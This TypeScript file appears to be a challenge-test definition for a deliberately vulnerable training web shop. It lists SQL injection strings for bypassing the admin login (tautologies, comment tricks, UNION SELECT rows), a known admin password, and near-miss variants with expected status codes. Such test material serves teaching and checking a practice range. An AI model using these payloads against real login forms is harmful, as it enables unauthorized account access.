import { defineWays } from '#range/define.ts'
import { logInBy } from '#range/errands.ts'

export default defineWays({
  otherWays: {
    'the row, selected once more': (visitor) => logInBy(visitor, "' UNION SELECT * FROM Users WHERE id=1--"),
    'the pattern of the tutorial': (visitor) => logInBy(visitor, "' OR true--"),
    'a pattern without blanks': (visitor) => logInBy(visitor, "'OR/**/1=1--"),
    'his address with a quote behind it': async (visitor) => logInBy(visitor, `admin@${await visitor.domain()}'--`),
    'a comment with a star': async (visitor) => logInBy(visitor, `admin@${await visitor.domain()}'/*`),
    'the first row of all': (visitor) => logInBy(visitor, "' OR id=1--"),
    'the real password': async (visitor) => visitor.login(`admin@${await visitor.domain()}`, 'admin123'),
  },
  mishaps: {
    'a made-up row that borrows the address': [
      200,
      async (visitor) =>
        logInBy(
          visitor,
          `' UNION SELECT 20,'','admin@${await visitor.domain()}','x','customer','','','','',1,'2020-01-01','2020-01-01',NULL--`,
        ),
    ],
    'a made-up row that borrows the number': [
      200,
      (visitor) =>
        logInBy(
          visitor,
          "' UNION SELECT 1,'','nobody@example.org','x','customer','','','','',1,'2020-01-01','2020-01-01',NULL--",
        ),
    ],
    'a wrong password': [401, async (visitor) => visitor.login(`admin@${await visitor.domain()}`, 'x')],
    'an address that is half covered up': [401, (visitor) => visitor.login('***min@juice-sh.op', 'x')],
    'a comment without a quote before it': [
      401,
      async (visitor) => logInBy(visitor, `admin@${await visitor.domain()}--`),
    ],
    'somebody else’s session': [200, (visitor) => visitor.login('demo', 'demo')],
    'the injection in the wrong field': [
      401,
      async (visitor) => visitor.login(`admin@${await visitor.domain()}`, "' OR 1=1--"),
    ],
  },
  companions: ['weakPasswordChallenge'],
})
